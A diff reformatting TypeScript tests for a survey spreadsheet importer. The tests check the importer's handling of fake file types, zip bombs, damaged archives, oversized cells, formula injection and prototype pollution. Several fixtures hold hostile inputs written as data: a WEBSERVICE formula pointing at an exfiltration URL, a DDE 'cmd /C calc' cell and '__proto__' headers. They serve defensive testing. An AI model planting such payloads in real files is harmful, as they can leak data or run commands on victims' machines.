@@ -78,13 +78,19 @@ describe('files that are not survey exports', () => {
   it('refuses PDFs, images, Word documents, zips and binary data, saying what they are', () => {
     const pdf = refusal(() => readSourceFile(new TextEncoder().encode('%PDF-1.7\n...'), 'responses.xlsx'));
     expect(pdf.message).toMatch(/is a PDF, not a spreadsheet/);
-    expect(refusal(() => readSourceFile(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'a.csv')).message).toMatch(/image/);
+    expect(
+      refusal(() => readSourceFile(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'a.csv'))
+        .message,
+    ).toMatch(/image/);
     const docx = zip([
       { name: '[Content_Types].xml', data: new TextEncoder().encode('<Types/>') },
       { name: 'word/document.xml', data: new TextEncoder().encode('<w:document/>') },
     ]);
     expect(refusal(() => readSourceFile(docx, 'responses.xlsx')).message).toMatch(/Word document/);
-    expect(refusal(() => readSourceFile(zip([{ name: 'notes.txt', data: new TextEncoder().encode('hello') }]), 'a.xlsx')).message).toMatch(/zip archive/);
+    expect(
+      refusal(() => readSourceFile(zip([{ name: 'notes.txt', data: new TextEncoder().encode('hello') }]), 'a.xlsx'))
+        .message,
+    ).toMatch(/zip archive/);
     const random = new Uint8Array(4096).map((_, i) => (i * 7919) % 256);
     expect(refusal(() => readSourceFile(random, 'a.csv')).reason).toBe('not-a-spreadsheet');
   });
@@ -115,7 +121,10 @@ describe('damaged files', () => {
   });
 
   it('a CSV cut off mid-row rejects that row: the file may have been cut off', () => {
-    const t = readSourceFile(new TextEncoder().encode('ID,Start time,Completion time,Q1,Q3\r\n1,,,Agree,Fine\r\n2,,,Agr'), 'a.csv');
+    const t = readSourceFile(
+      new TextEncoder().encode('ID,Start time,Completion time,Q1,Q3\r\n1,,,Agree,Fine\r\n2,,,Agr'),
+      'a.csv',
+    );
     expect(t.endsMidRow).toBe(true);
     const l = detectLayout(t);
     const r = applyMapping(t, l, proposeMapping(l, draft, t).mapping, draft);
@@ -160,7 +169,9 @@ describe('zip bombs', () => {
 
   it('refuses an archive with too many parts', () => {
     const parts = Array.from({ length: 30 }, (_, i) => ({ name: `p${i}.xml`, data: new Uint8Array(1) }));
-    expect(refusal(() => readSourceFile(zip(parts), 'a.xlsx', { limits: { maxZipEntries: 20 } })).reason).toBe('zip-bomb');
+    expect(refusal(() => readSourceFile(zip(parts), 'a.xlsx', { limits: { maxZipEntries: 20 } })).reason).toBe(
+      'zip-bomb',
+    );
   });
 
   it('refuses 100 entries that all point at one 9.5 MB stream (each under the limits, together over them)', () => {
@@ -188,9 +199,18 @@ describe('zip bombs', () => {
 });
 
 describe('a damaged spreadsheet is called damaged, not a zip bomb', () => {
-  const good = () => Buffer.from(toWorkbook([['Q1', 'Q2'], ['Agree', 'Fine']], 'xlsx'));
+  const good = () =>
+    Buffer.from(
+      toWorkbook(
+        [
+          ['Q1', 'Q2'],
+          ['Agree', 'Fine'],
+        ],
+        'xlsx',
+      ),
+    );
 
-  it('a changed byte in a part\'s stored bytes: its checksum says so', () => {
+  it("a changed byte in a part's stored bytes: its checksum says so", () => {
     const b = good();
     const view = new DataView(b.buffer, b.byteOffset, b.byteLength);
     // The first part's data starts after its local header and name.
@@ -202,7 +222,9 @@ describe('a damaged spreadsheet is called damaged, not a zip bomb', () => {
       bad[at] = bad[at]! ^ (1 << (i % 8));
       const r = refusal(() => readSourceFile(new Uint8Array(bad), 'a.xlsx'));
       expect(r.reason, r.message).toBe('damaged');
-      expect(r.message).toMatch(/^a\.xlsx is damaged or incomplete \(the part .+\)\. If it was downloaded or emailed, get a fresh copy\.$/);
+      expect(r.message).toMatch(
+        /^a\.xlsx is damaged or incomplete \(the part .+\)\. If it was downloaded or emailed, get a fresh copy\.$/,
+      );
       seen++;
     }
     expect(seen).toBe(64);
@@ -225,7 +247,9 @@ describe('oversized content', () => {
     const r = applyMapping(t, l, proposeMapping(l, draft, t).mapping, draft);
     expect(r.responses).toHaveLength(2);
     expect(r.rejected).toHaveLength(1);
-    expect(r.rejected[0]!.reason).toBe('Row 3, column "Q3": the cell has 10,485,760 characters, more than the 200,000 allowed.');
+    expect(r.rejected[0]!.reason).toBe(
+      'Row 3, column "Q3": the cell has 10,485,760 characters, more than the 200,000 allowed.',
+    );
     expect(r.rejected[0]!.raw['Q3']!.length).toBe(huge.length);
   });
 
@@ -238,8 +262,13 @@ describe('oversized content', () => {
   });
 
   it('refuses a file over the size limit, and too many rows', () => {
-    expect(refusal(() => readSourceFile(new Uint8Array(2048).fill(65), 'a.csv', { limits: { maxFileBytes: 1024 } })).reason).toBe('too-large');
-    expect(refusal(() => readSourceFile(new TextEncoder().encode('a\n1\n2\n3\n4\n'), 'a.csv', { limits: { maxRows: 3 } })).reason).toBe('too-many-rows');
+    expect(
+      refusal(() => readSourceFile(new Uint8Array(2048).fill(65), 'a.csv', { limits: { maxFileBytes: 1024 } })).reason,
+    ).toBe('too-large');
+    expect(
+      refusal(() => readSourceFile(new TextEncoder().encode('a\n1\n2\n3\n4\n'), 'a.csv', { limits: { maxRows: 3 } }))
+        .reason,
+    ).toBe('too-many-rows');
   });
 });
 
@@ -248,7 +277,7 @@ describe('cells that look like code', () => {
     const ws = XLSX.utils.aoa_to_sheet([['Q1', 'Q3', 'Q8']]);
     ws['A2'] = { t: 's', v: 'Agree', f: 'CONCAT("Ag","ree")' };
     ws['B2'] = { t: 'n', v: 42, f: 'WEBSERVICE("http://example.com/steal")' };
-    ws['C2'] = { t: 's', v: '=cmd|\' /C calc\'!A0' };
+    ws['C2'] = { t: 's', v: "=cmd|' /C calc'!A0" };
     ws['!ref'] = 'A1:C2';
     const wb = XLSX.utils.book_new();
     XLSX.utils.book_append_sheet(wb, ws, 'S');
@@ -258,7 +287,10 @@ describe('cells that look like code', () => {
   });
 
   it('formula-looking CSV cells stay text in the responses', () => {
-    const t = readSourceFile(new TextEncoder().encode('Q1,Q3\nAgree,"=HYPERLINK(""http://x"",""y"")"\nAgree,+SUM(A1)\n'), 'a.csv');
+    const t = readSourceFile(
+      new TextEncoder().encode('Q1,Q3\nAgree,"=HYPERLINK(""http://x"",""y"")"\nAgree,+SUM(A1)\n'),
+      'a.csv',
+    );
     const l = detectLayout(t);
     const r = applyMapping(t, l, proposeMapping(l, draft, t).mapping, draft);
     expect(r.responses.map((x) => x.answers[1]!.text)).toEqual(['=HYPERLINK("http://x","y")', '+SUM(A1)']);
@@ -267,7 +299,8 @@ describe('cells that look like code', () => {
 
 describe('hostile and duplicate headers', () => {
   it('"__proto__" and "constructor" headers are plain keys: no prototype pollution', () => {
-    const csv = '__proto__,constructor,prototype,Q1\n"{""polluted"":1}",x,y,Agree\n"{""polluted"":1}",x,y,Nonsense,extra\n';
+    const csv =
+      '__proto__,constructor,prototype,Q1\n"{""polluted"":1}",x,y,Agree\n"{""polluted"":1}",x,y,Nonsense,extra\n';
     const t = readSourceFile(new TextEncoder().encode(csv), 'a.csv');
     const l = detectLayout(t);
     const p = proposeMapping(l, draft, t);
@@ -280,14 +313,26 @@ describe('hostile and duplicate headers', () => {
     expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
     expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
     // And through SheetJS.
-    const x = readSourceFile(toWorkbook([['__proto__', 'constructor', 'Q1'], ['{"polluted":1}', 'x', 'Agree']], 'xlsx'), 'a.xlsx');
+    const x = readSourceFile(
+      toWorkbook(
+        [
+          ['__proto__', 'constructor', 'Q1'],
+          ['{"polluted":1}', 'x', 'Agree'],
+        ],
+        'xlsx',
+      ),
+      'a.xlsx',
+    );
     expect(x.cells[0]).toEqual(['__proto__', 'constructor', 'Q1']);
     expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
   });
 
   it('duplicate headers stay separate columns and separate raw keys', () => {
     const t = readSourceFile(
-      new TextEncoder().encode('ID,Start time,Completion time,Q1,Please explain your answer,Q4,Please explain your answer\n1,,,Agree,Because A,Disagree,Because B\n2,,,Agree,,Disagree,x,y\n'),
+      new TextEncoder().encode(
+        'ID,Start time,Completion time,Q1,Please explain your answer,Q4,Please explain your ' +
+          'answer\n1,,,Agree,Because A,Disagree,Because B\n2,,,Agree,,Disagree,x,y\n',
+      ),
       'a.csv',
     );
     const l = detectLayout(t);
@@ -296,6 +341,15 @@ describe('hostile and duplicate headers', () => {
     expect(p.mapping[6]).toEqual({ kind: 'question', questionId: 'example-q4', part: 'explanation' });
     const r = applyMapping(t, l, p.mapping, draft);
     expect(r.responses[0]!.answers.map((a) => a.explanation)).toEqual(['Because A', 'Because B']);
-    expect(Object.keys(r.rejected[0]!.raw)).toEqual(['ID', 'Start time', 'Completion time', 'Q1', 'Please explain your answer', 'Q4', 'Please explain your answer (2)', 'Column 8']);
+    expect(Object.keys(r.rejected[0]!.raw)).toEqual([
+      'ID',
+      'Start time',
+      'Completion time',
+      'Q1',
+      'Please explain your answer',
+      'Q4',
+      'Please explain your answer (2)',
+      'Column 8',
+    ]);
   });
 });
